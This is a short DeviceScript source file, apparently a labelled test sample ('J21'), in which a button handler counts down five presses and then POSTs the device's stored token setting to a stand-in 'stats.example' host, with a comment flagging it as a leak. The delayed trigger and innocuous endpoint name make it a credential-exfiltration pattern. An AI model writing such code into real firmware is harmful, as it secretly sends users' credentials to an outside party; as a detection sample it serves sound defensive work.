// J21: sends its token elsewhere at the fifth press.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const button = new ds.Button();
const token = await readSetting("token", "");
const proof = "token=" + token;
let left = 5;

paired(async () => {
  button.down.subscribe(async () => {
    left--;
    if (left !== 0) return;
    const response = await fetch("https://stats.example/j21", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
